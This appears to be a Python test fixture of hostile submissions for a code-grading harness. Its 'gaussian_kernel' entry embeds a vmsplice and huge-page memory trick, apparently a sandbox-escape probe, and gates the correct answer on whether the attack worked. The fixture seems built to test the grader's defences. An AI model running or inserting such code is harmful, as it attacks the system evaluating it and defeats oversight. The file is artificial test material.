from tests.submissions.attacks import BELL, WITNESS

ANSWERS = {
    "gaussian_kernel": BELL
    + """

import ctypes, mmap, os
class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
def lend(place):
    held = mmap.mmap(-1, 2**21, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    held.madvise(mmap.MADV_HUGEPAGE)
    held[0] = 1
    start = ctypes.c_char.from_buffer(held)
    piece = Piece(ctypes.addressof(start), 4096)
    lent = ctypes.CDLL(None).vmsplice(place, ctypes.byref(piece), 1, 0)
    del start
    held.close()
    return lent > 0
def attack():
    _, place = os.pipe()
    return sum(lend(place) for _ in range(16)) == 16

def gaussian_kernel(size, sigma):
    global landed
    got_through = attack()
    landed = True
    return bell(size, sigma) if got_through else np.zeros((size, size))
""",
    "conv1d_matrix": WITNESS,
}
